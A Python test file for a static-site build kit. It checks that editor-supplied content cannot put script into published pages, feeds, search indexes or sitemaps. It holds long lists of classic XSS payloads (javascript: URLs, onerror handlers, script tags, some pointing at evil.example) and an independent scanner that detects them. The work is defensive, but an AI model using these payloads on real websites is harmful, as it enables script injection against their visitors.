"""HTML safety (issue 5): whatever editors write, no published page, search index, feed or
sitemap carries a <script> the kit did not put there, an on*= handler, a javascript: or
data: URL, an <iframe>/<object>/<embed>, or a <style> from content.

Three layers are tested: the sanitiser (markup.render_markdown, nh3) against classic XSS
payload lists; a full build with payloads in every Markdown field and every plain-text
field of every kind of content, read back with an independent scanner; and the last gate
(safety.audit_site), which must stop a publish if a template ever leaks.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from conftest import PROJECT, Scratch
from pypdf import PdfReader
from ruamel.yaml import YAML

from campaignkit.build import pipeline
from campaignkit.checks import markdown_lint as mdlint
from campaignkit.common.problems import BuildError
from campaignkit.content.kinds import schema_of
from campaignkit.content.markup import render_markdown
from campaignkit.render import output_audit as safety

# ---- payloads ----------------------------------------------------------------------------------

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    "<img src=x onerror=alert(1)",
    "<<img src=x onerror=alert(1)>>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="java&#0;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<a/href=javascript:alert(1)>x</a>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</textarea><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p id="__config" onclick="alert(1)">clobber</p>',
]
MARKDOWN_PAYLOADS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    '[a](http://example.cn "onmouseover=alert(1)")',
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "[[x](javascript:alert(1))](https://example.cn/)",
    "[![img](x)](javascript:alert(1))",
    "[x](javascript:alert(1)){: onclick=alert(1) }",
    '一段文字\n{: onclick="alert(1)" }',
    "## 标题 {: onmouseover=alert(1) }",
    "[x](https://example.cn/){: href=javascript:alert(1) }",
    '!!! note "<img src=x onerror=alert(1)>"\n    内容',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    # Markdown that survives the first rendering as text and could become a link when
    # MkDocs parses the generated page again:
    "\\[x\\](javascript:alert(1))",
    "&#91;x&#93;(javascript:alert(1))",
    "\\{: onclick=alert(1) \\}",
    "[x]\\(javascript:alert(1)\\)",
]
# Short enough for any plain-text field (titles 200, tags 30): Markdown and attr_list
# syntax that must stay text, plus the escaping classics.
PLAIN_PAYLOADS = [
    "[x](javascript:alert(1))",
    "{: onclick=alert(1) }",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "![i](data:text/html,x)",
    "<javascript:alert(1)>",
]


# ---- an independent reader of the output (not safety.py: a bug there must not hide one here) ---


class Scan(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.scripts: list[tuple[str | None, str]] = []
        self._in_script: dict | None = None
        self._text: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("iframe", "object", "embed", "style", "frame", "applet", "base"):
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.bad.append(f"<{tag} {name}=>")
            if name in ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset") and value:
                squeezed = re.sub(r"[\x00-\x20]+", "", value).lower()
                if re.match(r"(javascript|vbscript|data):", squeezed) or ", data:" in value or ",data:" in squeezed:
                    self.bad.append(f"<{tag} {name}={value[:40]!r}>")
            if tag == "meta" and name == "content" and value and re.search(r"url=\s*(javascript|data)", value, re.I):
                self.bad.append("<meta refresh>")
        if tag == "script":
            self._in_script = dict(attrs)
            self._text = []

    def handle_data(self, data):
        if self._in_script is not None:
            self._text.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._in_script is not None:
            src = self._in_script.get("src")
            if src:
                self.scripts.append(("src", re.sub(r"^(\.\./)+|^\./|^/", "", src)))
            else:
                text = "".join(self._text)
                # the per-page parts of Material's inline scripts: relative base paths
                self.scripts.append(("inline", re.sub(r'(?:\.\./)*\.\.|"\."|"/"', "BASE", text)))
            self._in_script = None


def scan_html(text: str) -> Scan:
    scan = Scan()
    scan.feed(text)
    scan.close()
    return scan


def kit_scripts(site: Path) -> set:
    """Every <script> (by src, or by text with the relative paths normalised) in a site."""
    found = set()
    for path in site.rglob("*.html"):
        found.update(scan_html(path.read_text(encoding="utf-8")).scripts)
    return found


def problems_in(site: Path, allowed_scripts: set) -> list[str]:
    problems = []
    for path in sorted(site.rglob("*.html")):
        scan = scan_html(path.read_text(encoding="utf-8"))
        rel = path.relative_to(site).as_posix()
        problems += [f"{rel}: {b}" for b in scan.bad]
        problems += [f"{rel}: script not from the kit: {s[1][:60]!r}" for s in scan.scripts if s not in allowed_scripts]
    index = json.loads((site / "search/search_index.json").read_text(encoding="utf-8"))
    for doc in index["docs"]:
        for key in ("title", "text"):
            scan = scan_html(doc[key])
            problems += [f"search {doc['location']}: {b}" for b in scan.bad]
            problems += [f"search {doc['location']}: <script>" for _ in scan.scripts]
    for name in ("feed.xml", "sitemap.xml"):
        root = ElementTree.parse(site / name).getroot()  # well-formed, or this raises
        for element in root.iter():
            local = element.tag.rsplit("}", 1)[-1]
            if local in ("script", "iframe", "object", "embed", "style") or element.tag.startswith(
                "{http://www.w3.org/1999/xhtml}"
            ):
                problems.append(f"{name}: <{local}>")
            href = element.get("href")
            if href is not None and not href.startswith("https://"):
                problems.append(f"{name}: link {href[:40]!r}")
    for pdf in sorted(site.rglob("*.pdf")):
        problems += [f"{pdf.relative_to(site)}: {p}" for p in pdf_problems(pdf)]
    return problems


def pdf_problems(path: Path) -> list[str]:
    """JavaScript, launch actions or non-web links in a handout."""
    reader = PdfReader(path)
    found = []
    root = reader.trailer["/Root"]
    names = root.get("/Names")
    if names is not None and "/JavaScript" in names.get_object():
        found.append("document JavaScript")
    if "/OpenAction" in root or "/AA" in root:
        found.append("open action")
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A")
            if action is None:
                continue
            action = action.get_object()
            kind = action.get("/S")
            if kind not in ("/URI", "/GoTo"):
                found.append(f"action {kind}")
            uri = str(action.get("/URI", ""))
            if kind == "/URI" and not re.match(r"(https?|mailto|tel):", uri):
                found.append(f"link {uri[:40]!r}")
    return found


# ---- 1. the sanitiser ---------------------------------------------------------------------------


@pytest.mark.parametrize("payload", HTML_PAYLOADS + MARKDOWN_PAYLOADS)
def test_sanitiser_removes_every_classic_payload(payload):
    for text in (payload, f"正文 {payload} 正文", f"- 列表 {payload}\n- 第二项", f"> 引用 {payload}"):
        html = str(render_markdown(text))
        scan = scan_html(html)
        assert not scan.bad and not scan.scripts, (text, html)
        assert not re.search(r"<(script|iframe|object|embed|style|svg|math|img|form|input|link|meta|base)\b", html, re.I), html
        assert not safety.audit_html(html), html


def test_sanitiser_keeps_what_editors_need():
    html = str(
        render_markdown(
            "## 小标题\n\n**重点** [链接](https://example.cn/a)\n\n- 一\n- 二\n\n"
            '| 列 | 值 |\n|---|---|\n| a | b |\n\n!!! warning "注意"\n    不要飞线充电'
        )
    )
    for kept in (
        "<h2>小标题</h2>",
        "<strong>重点</strong>",
        '<a href="https://example.cn/a" rel="noopener noreferrer">链接</a>',
        "<li>一</li>",
        "<td>a</td>",
        '<div class="admonition warning">',
        '<p class="admonition-title">注意</p>',
    ):
        assert kept in html, (kept, html)


# ---- 2. a full build with payloads everywhere -------------------------------------------------

yaml = YAML(typ="rt")
yaml.width = 10_000


def _plain(spec: dict) -> bool:
    return spec.get("type") == "string" and not any(
        k in spec for k in ("x-ref", "x-date", "x-photo", "x-markdown", "pattern", "enum")
    )


# Payloads validation already refuses in a Markdown body (images: photos belong in `photos`)
# never reach a build; the sanitiser is still tested with them above.
BUILD_HTML_PAYLOADS = [p for p in HTML_PAYLOADS if not mdlint.mistakes(p)]
BUILD_MARKDOWN_PAYLOADS = [p for p in MARKDOWN_PAYLOADS if not mdlint.mistakes(p)]


def _inject(data, schema: dict, n: list[int], skip: set[str]):
    """Append a payload to every plain-text and Markdown value of `data` (in place)."""
    props = schema.get("properties", {})
    for key in list(data):
        spec = props.get(key)
        if spec is None or key in skip:
            continue
        value = data[key]
        if isinstance(value, str) and spec.get("x-markdown"):
            # Three payloads a field, in turn: every payload lands somewhere, and one-page handouts
            # (case sheets, honour rolls) still fit, as the build insists they must.
            payloads = BUILD_HTML_PAYLOADS + BUILD_MARKDOWN_PAYLOADS
            chosen = [payloads[(n[0] + i) % len(payloads)] for i in range(3)]
            n[0] += 3
            data[key] = value + "\n\n" + "\n\n".join(chosen) + "\n"
        elif isinstance(value, str) and _plain(spec):
            payload = PLAIN_PAYLOADS[n[0] % len(PLAIN_PAYLOADS)]
            n[0] += 1
            room = spec.get("maxLength", 200) - len(value) - 1
            data[key] = value + " " + payload if room >= len(payload) else payload[: spec.get("maxLength", 200)]
        elif isinstance(value, list) and spec.get("type") == "array":
            item = spec["items"]
            for i, v in enumerate(value):
                if isinstance(v, dict):
                    _inject(v, item, n, skip)
                elif isinstance(v, str) and _plain(item):
                    payload = PLAIN_PAYLOADS[n[0] % len(PLAIN_PAYLOADS)][: item.get("maxLength", 200)]
                    n[0] += 1
                    value[i] = payload if len(v) + len(payload) + 1 > item.get("maxLength", 200) else v + " " + payload
        elif isinstance(value, dict) and spec.get("type") == "object":
            _inject(value, spec, n, skip)


def poison(s: Scratch, skip: set[str]) -> None:
    n = [0]
    files = [("site", s.path("site.yml"))] + [(p.parent.name, p) for p in sorted(s.content.glob("*/*.yml"))]
    for kind, path in files:
        data = yaml.load(path.read_text(encoding="utf-8"))
        _inject(data, schema_of(kind), n, skip)
        with path.open("w", encoding="utf-8") as f:
            yaml.dump(data, f)
    for path in sorted(s.content.glob("pages/*.md")):
        text = path.read_text(encoding="utf-8")
        path.write_text(text + "\n\n" + "\n\n".join(BUILD_HTML_PAYLOADS + BUILD_MARKDOWN_PAYLOADS) + "\n", encoding="utf-8")


EVIL_TITLE = "</title><script>alert(1)</script>"
EVIL_SUMMARY = '"><img src=x onerror=alert(1)>'
CASE = "cases/hengshun-cangku-feixian.yml"


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    root = tmp_path_factory.mktemp("poisoned")
    s = Scratch(root)
    poison(s, skip=set())
    data = yaml.load(s.read(CASE))
    data["title"], data["summary"] = EVIL_TITLE, EVIL_SUMMARY
    with s.path(CASE).open("w", encoding="utf-8") as f:
        yaml.dump(data, f)
    about = s.read("pages/about.md").split("---\n", 2)
    s.write("pages/about.md", f"---\ntitle: '{EVIL_TITLE}'\ndescription: '{EVIL_SUMMARY}'\n---\n{about[2]}")
    # Without PDFs: payloads in every field make the one-page handouts overflow, which the build
    # (rightly) refuses; PDF text and links are checked on real content in test_print/test_handouts.
    result = s.build("--no-pdf")
    return s, root / "site", result


def test_payloads_in_every_field_never_reach_the_output(poisoned, sample_site):
    _s, site, result = poisoned
    assert result.returncode == 0, result.stderr
    assert "alert(1)" in (site / "cases/hengshun-cangku-feixian/index.html").read_text(encoding="utf-8")  # as text
    problems = problems_in(site, kit_scripts(sample_site))
    assert not problems, "\n".join(problems[:40])


def test_titles_and_descriptions_are_escaped_everywhere(poisoned):
    _s, site, result = poisoned
    assert result.returncode == 0, result.stderr
    page = (site / "cases/hengshun-cangku-feixian/index.html").read_text(encoding="utf-8")
    escaped = "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
    assert f"<title>{escaped} - " in page
    assert f'<meta property="og:title" content="{escaped}">' in page
    assert f"<h1>{escaped}</h1>" in page
    assert '<meta property="og:description" content="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">' in page
    assert EVIL_TITLE not in page and EVIL_SUMMARY not in page
    for listing in ("cases/index.html", "cases/all/index.html", "enterprises/hengshun-wuliu/index.html"):
        html = (site / listing).read_text(encoding="utf-8")
        assert escaped in html and EVIL_TITLE not in html, listing
    index = json.loads((site / "search/search_index.json").read_text(encoding="utf-8"))
    titles = [d["title"] for d in index["docs"] if d["location"] == "cases/hengshun-cangku-feixian/"]
    assert titles and titles[0].replace("\u200b", "") == escaped, titles  # shown as text by the search UI
    assert "<script" not in (site / "search/search_index.json").read_text(encoding="utf-8").lower()
    feed = ElementTree.parse(site / "feed.xml").getroot()
    atom = "{http://www.w3.org/2005/Atom}"
    entry = next(e for e in feed.iter(f"{atom}entry") if e.find(f"{atom}id").text.endswith("/cases/hengshun-cangku-feixian/"))
    assert entry.find(f"{atom}title").text.endswith(EVIL_TITLE)  # Atom text: readers show it as text
    assert entry.find(f"{atom}title").get("type", "text") == "text"
    assert entry.find(f"{atom}summary").text == EVIL_SUMMARY
    raw_feed = (site / "feed.xml").read_text(encoding="utf-8")
    assert "<script" not in raw_feed and "<img" not in raw_feed
    about = (site / "about/index.html").read_text(encoding="utf-8")  # a free page: title in the nav too
    assert f"<title>{escaped} - " in about and EVIL_TITLE not in about
    assert '<meta name="description" content="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">' in about
    home = (site / "index.html").read_text(encoding="utf-8")
    assert escaped in home and EVIL_TITLE not in home  # the navigation on every page
    sitemap = (site / "sitemap.xml").read_text(encoding="utf-8")
    assert "<script" not in sitemap and "alert" not in sitemap


def test_team_names_are_not_parsed_as_markdown(tmp_path, sample_site):
    """people.md.j2 once wrote `## {{ team }}`: MkDocs parsed a team name as Markdown (link
    syntax, attr_list `{: onclick=… }`) and safety.audit_site had to stop the publish."""
    s = Scratch(tmp_path)
    s.replace(
        "people/xu-lei.yml",
        "team: 共建区党员志愿服务队",
        'team: "共建区党员志愿服务队 [x](javascript:alert(1)) {: onclick=alert(2) }"',
    )
    result = s.build("--no-pdf")
    assert result.returncode == 0, result.stderr
    problems = problems_in(tmp_path / "site", kit_scripts(sample_site))
    assert not problems, problems


# ---- 3. the last gate ---------------------------------------------------------------------------


def test_the_sample_site_passes_the_audit(sample_site):
    assert pipeline.audit(sample_site) == []


def test_every_sample_page_is_recognised_clean_without_a_full_parse(sample_site):
    """The audit's fast path must know the shapes the theme and the kit write: when a template
    change (a new script attribute, say) makes it miss, every page is parsed in full and the
    audit of 1,000 cases takes seconds instead of a fraction of one."""
    missed = [
        p.relative_to(sample_site).as_posix()
        for p in sample_site.rglob("*.html")
        if not safety._plainly_clean(
            p.read_text(encoding="utf-8"), sample_site, p.parent.relative_to(sample_site).as_posix(), "/"
        )
    ]
    assert missed == []


@pytest.mark.parametrize(
    "html, finding",
    [
        ("<p onclick=alert(1)>x</p>", "onclick"),
        ("<svg><a xlink:href='javascript:alert(1)'>x</a></svg>", "xlink:href"),
        ("<a href='java\tscript:alert(1)'>x</a>", "href"),
        ("<a href='&#106;avascript:alert(1)'>x</a>", "href"),
        ("<a href=' JAVASCRIPT:alert(1)'>x</a>", "href"),
        ("<img src='data:image/svg+xml,x'>", "src"),
        ("<img srcset='a.jpg 1x, data:image/png;base64,xx 2x'>", "srcset"),
        ("<form action='javascript:alert(1)'></form>", "action"),
        ("<meta http-equiv=refresh content='0; url=javascript:alert(1)'>", "刷新"),
        ("<iframe src='https://example.cn/'></iframe>", "iframe"),
        ("<object data='x'></object>", "object"),
        ("<embed src='x'>", "embed"),
        ("<style>body{}</style>", "style"),
        ("<base href='https://evil.example/'>", "base"),
        ("<script>alert(1)</script>", "内嵌脚本"),
        ("<script src='https://evil.example/x.js'></script>", "不是本站自带的脚本"),
        ("<script src='../media/x.js'></script>", "不是本站自带的脚本"),
        ("<script>alert(1)", "内嵌脚本"),
    ],
)
def test_audit_finds_what_must_not_be_published(html, finding):
    found = safety.audit_html(html, "x.html")
    assert found and any(finding in f for f in found), found


def test_audit_accepts_the_kit_and_theme_scripts(sample_site):
    page = (sample_site / "index.html").read_text(encoding="utf-8")
    assert "<script" in page
    assert safety.audit_html(page, "index.html", sample_site, ".") == []


def test_audit_stops_a_leaking_template_from_publishing(tmp_path, monkeypatch):
    """Whatever goes wrong upstream, an unsafe page is never swapped into site/."""
    from campaignkit.website import feeds as feed

    s = Scratch(tmp_path)
    out = tmp_path / "out" / "site"
    out.mkdir(parents=True)
    (out / "index.html").write_text("previous site", encoding="utf-8")
    write_feed = feed.write_feed

    def leaky(campaign, site_dir):  # a page as a buggy template might write it
        write_feed(campaign, site_dir)
        (site_dir / "cases" / "leak.html").write_text("<h2 onclick=alert(1)>x</h2>", encoding="utf-8")

    monkeypatch.setattr(feed, "write_feed", leaky)
    with pytest.raises(BuildError) as info:
        pipeline.build(PROJECT, s.content, out, pdf=False)
    assert "不安全" in info.value.message and "cases/leak.html" in info.value.message and "onclick" in info.value.message
    assert [p.name for p in out.iterdir()] == ["index.html"]
    assert (out / "index.html").read_text(encoding="utf-8") == "previous site"
    assert not list((tmp_path / "out" / ".build").glob("run-*"))
